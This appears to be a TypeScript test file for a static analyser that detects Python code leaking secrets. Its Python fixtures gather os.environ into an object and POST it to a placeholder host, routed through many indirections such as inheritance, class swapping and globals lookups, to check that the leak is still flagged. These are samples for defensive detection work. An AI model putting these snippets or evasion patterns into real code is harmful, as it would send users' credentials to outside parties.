import { pythonReady } from './grammar';
import { readPython } from './read-python';

const COLLECT =
  'import os, requests\nclass Collect:\n    def __init__(self):\n        self.found = dict(os.environ)\n';
const SHIP = 'class Ship:\n    def go(self):\n        requests.post("https://a.invalid", json=self.found)\n';
const BOTH = `${COLLECT}${SHIP}`;

const isSent = (code: string) =>
  readPython('x.py', code).observations.some(({ signal }) => signal === 'secret-sent');

describe('ast/python/own-fields', () => {
  beforeAll(pythonReady);

  it.each<[title: string, code: string]>([
    [
      'one class',
      `${COLLECT}    def go(self):\n        requests.post("https://a.invalid", json=self.found)\n`,
    ],
    ['what a class inherits', `${COLLECT}${SHIP.replace('Ship:', 'Ship(Collect):')}Ship().go()`],
    [
      'what it inherits from far',
      `${COLLECT}class Between(Collect): pass\n${SHIP.replace('Ship:', 'Ship(Between):')}`,
    ],
    ['a class of two', `${BOTH}class All(Collect, Ship): pass\nAll().go()`],
    ['a class of two that is put together', `${BOTH}type("All", (Collect, Ship), {})().go()`],
    [
      'a class of two, by a function of another module',
      `from x import mixed\n${BOTH}mixed(Collect, Ship)().go()`,
    ],
    ['a method that is called by its class', `${BOTH}Ship.go(Collect())`],
    ['a method that is called by the type of an object', `${BOTH}type(Ship()).go(Collect())`],
    ['a method without its object', `${BOTH}Ship().go.__func__(Collect())`],
    ['a method that is put into another class', `${BOTH}Collect.go = Ship.go\nCollect().go()`],
    ['an object that changes its class', `${BOTH}c = Collect()\nc.__class__ = Ship\nc.go()`],
    [
      'an object that takes the fields of another',
      `${BOTH}s = Ship()\ns.__dict__ = Collect().__dict__\ns.go()`,
    ],
    [
      'another object by the name self',
      `${COLLECT}${SHIP.replace('go(self):', 'go(self, other):\n        self = other')}Ship().go(Collect())`,
    ],
    [
      'another object in a loop',
      `${COLLECT}${SHIP.replace('go(self):', 'go(me, all):\n      for self in all:').replace('requests', ' requests')}Ship().go([Collect()])`,
    ],
    [
      'a function outside of classes',
      `${COLLECT}class Other: pass\ndef go(self):\n    requests.post("https://a.invalid", json=self.found)\ngo(Collect())`,
    ],
    [
      'a lambda outside of classes',
      `${COLLECT}class Other: pass\ngo = lambda self: requests.post("https://a.invalid", json=self.found)\ngo(Collect())`,
    ],
    ['classes by the names of the module', `${BOTH}globals()["Ship"].go(Collect())`],
    ['a class under another name', `${BOTH}S = Ship\nS.go(Collect())`],
    [
      'classes that the package itself registers',
      `from .kinds import kinds\n${BOTH}kinds.register(Collect)\nkinds.register(Ship)\nkinds.all().go()`,
    ],
    [
      'classes of which something is made when they are registered',
      `from kinds import Kinds\n${BOTH}K = Kinds.register(Ship)\nK.go(Collect())`,
    ],
    ['two classes of one name', `${BOTH.replace('Ship', 'Collect')}`],
  ])('follows a field through %s', (_title, code) => {
    expect(isSent(code)).toBe(true);
  });

  it.each<[title: string, code: string]>([
    ['two classes', `${BOTH}Ship().go()\nCollect()`],
    [
      'a manager and a client of the same thing, which an abstract class is told of (jupyter_server)',
      `from kinds import ManagerABC, ClientABC
import json, os, websocket
from .client import request
class Manager:
    client_class = "kinds.Client"
    def start(self):
        answer = request(body=json.dumps(dict(os.environ)))
        self.id = json.loads(answer)["id"]
    @staticmethod
    def address(x): return x
    def show(self):
        return Manager.address(self.id)
ManagerABC.register(Manager)
class Client:
    peers: dict[str, Manager] | None
    def open(self, other: Manager):
        websocket.create_connection("wss://a.example/" + self.id)
        return isinstance(other, Manager)
ClientABC.register(Client)`,
    ],
  ])('keeps apart the fields of %s', (_title, code) => {
    expect(isSent(code)).toBe(false);
  });
});
